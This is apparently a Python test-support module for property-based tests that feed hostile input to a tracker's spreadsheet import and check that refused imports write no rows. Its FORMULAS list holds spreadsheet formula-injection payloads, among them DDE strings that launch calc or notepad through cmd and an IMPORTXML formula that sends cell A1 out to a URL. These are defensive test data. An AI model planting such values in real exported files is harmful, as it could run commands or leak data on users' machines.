"""Shared pieces of the hostile-input tests: hypothesis settings, hostile cell
values, and the check every refused import must pass (a located, well-formed
error and not one row written).

Hypothesis and function-scoped fixtures do not mix, so each test builds ONE
database (a fixture) and runs an inner ``@given`` function against it; every
example compares the row counts of every table before and after, because a
refused import must change nothing.
"""

from __future__ import annotations

import os
from typing import Any, Callable

from hypothesis import HealthCheck, Phase, settings
from sqlalchemy.engine import Engine

from tests.cli.conftest import tracker  # noqa: F401 - the command-line runner, for test_exports
from tests.conftest import write
from tests.storage.conftest import counts
from tracker.domain.errors import InputError, RowError, RowErrors

EXPLORE = bool(os.environ.get("HOSTILE_RANDOM"))

# One profile for every property test in this folder: modest, no deadline (a
# database round trip per example), and no complaint about the fixture-built
# database or large generated files.
SETTINGS = dict(
    deadline=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
    # The same examples every run, so a pass or a failure is reproducible, and no shrinking
    # (it can take a minute on a database; a failure is still printed as the exact input).
    # HOSTILE_RANDOM=1 explores new examples and shrinks what fails to a minimal input.
    derandomize=not EXPLORE,
    database=None,
    phases=tuple(Phase) if EXPLORE else (Phase.explicit, Phase.generate),
)


def hyp(max_examples: int) -> settings:
    return settings(max_examples=max_examples, **SETTINGS)


# Cells a spreadsheet would run as a formula. As data they are either refused
# with a clear error or stored exactly as given.
FORMULAS = (
    "=cmd()",
    "+1",
    "@SUM(A1)",
    "-2+3",
    '=HYPERLINK("http://example.invalid/x","click")',
    "=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "@x",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
)

WRONG_DATES = (
    "23/11/2026",
    "2026-11-31",
    "tomorrow",
    "11/23/2026",
    "2026-13-01",
    "2026/11/23",
    "23.11.2026",
    "Nov 23 2026",
    "2026-11-23 25:00",
    "--",
    "=TODAY()",
)


def check_row_errors(error: RowErrors, *, max_row: int | None = None) -> None:
    """Every error names a row (>= 1), a column and a reason (one non-empty line). Every
    problem is listed, not just the first."""
    problems: list[str] = []
    if not error.errors:
        problems.append("RowErrors without any row error")
    if error.field != "file" or not error.reason or "\n" in str(error):
        problems.append(f"summary: {str(error)[:200]!r}")
    for row_error in error.errors:
        if not isinstance(row_error, RowError):
            problems.append(f"not a RowError: {row_error!r}")
            continue
        if not isinstance(row_error.row, int) or row_error.row < 1 or (max_row is not None and row_error.row > max_row):
            problems.append(f"row out of range: {row_error}")
        if not isinstance(row_error.column, str) or not row_error.column.strip():
            problems.append(f"no column named: {str(row_error)!r}")
        if not isinstance(row_error.reason, str) or not row_error.reason.strip() or "\n" in row_error.reason:
            problems.append(f"no one-line reason: {str(row_error)[:200]!r}")
    assert not problems, "; ".join(problems)


def attempt(engine: Engine, work: Callable[[Any], Any], *, max_row: int | None = None) -> tuple[Any, InputError | None]:
    """Run an import in one write transaction.

    Returns (result, None) on success or (None, error) when refused; a refusal
    must be well-formed and leave every table exactly as it was. Any exception
    other than the tracker's own InputError family propagates and fails the test.
    """
    before = counts(engine)
    try:
        result = write(engine, work)
    except RowErrors as refused:
        check_row_errors(refused, max_row=max_row)
        assert counts(engine) == before, "a refused import wrote rows"
        return None, refused
    except InputError as refused:  # still one clear, located message
        assert refused.field and refused.reason and "\n" not in refused.reason
        assert counts(engine) == before, "a refused import wrote rows"
        return None, refused
    return result, None
